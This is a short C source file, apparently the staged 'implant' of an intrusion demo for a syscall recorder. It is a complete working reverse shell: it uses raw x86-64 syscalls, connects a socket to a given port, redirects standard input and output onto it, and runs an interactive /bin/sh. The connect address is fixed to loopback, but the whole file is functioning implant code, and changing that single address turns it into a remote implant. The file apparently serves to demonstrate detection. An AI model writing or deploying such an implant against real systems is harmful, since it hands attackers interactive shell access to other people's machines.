// The "downloaded program" of the demo's staged intrusion: a shell for whoever listens on a port of this machine's
// loopback address. It knows no other address. Without the C library, so that a recording of its download is small
// and its calls are exactly the ones below.
//   gcc -static -nostdlib -Os -s implant.c && ./a.out PORT
#ifndef __x86_64__
#error "the recorder knows x86-64 only, and so does this program"
#endif

enum { SYS_close = 3, SYS_dup2 = 33, SYS_socket = 41, SYS_connect = 42, SYS_execve = 59, SYS_exit = 60 };
enum { AF_INET = 2, SOCK_STREAM = 1 };

struct address {
    unsigned short family;
    unsigned char port[2], ip[4], zero[8];
};

static long call(long number, long a, long b, long c) {
    long result;
    __asm__ volatile("syscall" : "=a"(result) : "a"(number), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
    return result;
}

__attribute__((noreturn)) static void leave(long status) {
    for (;;) call(SYS_exit, status, 0, 0);
}

// `words` is what the kernel leaves on the stack of a new program: argc, argv, a null pointer, envp.
__attribute__((noreturn, used)) static void start(long *words) {
    if (words[0] != 2) leave(2);
    unsigned port = 0;
    for (const char *digit = (const char *)words[2]; *digit; digit++) port = port * 10 + (unsigned)(*digit - '0');
    struct address listener = {AF_INET, {(unsigned char)(port >> 8), (unsigned char)port}, {127, 0, 0, 1}, {0}};
    long connection = call(SYS_socket, AF_INET, SOCK_STREAM, 0);
    if (connection < 0 || call(SYS_connect, connection, (long)&listener, sizeof listener) != 0) leave(1);
    for (long fd = 0; fd < 3; fd++) call(SYS_dup2, connection, fd, 0);
    call(SYS_close, connection, 0, 0);
    const char *arguments[] = {"sh", "-i", 0};
    call(SYS_execve, (long)"/bin/sh", (long)arguments, (long)(words + words[0] + 2));
    leave(1);
}

__asm__(".globl _start\n_start: mov %rsp, %rdi\n and $-16, %rsp\n call start\n");
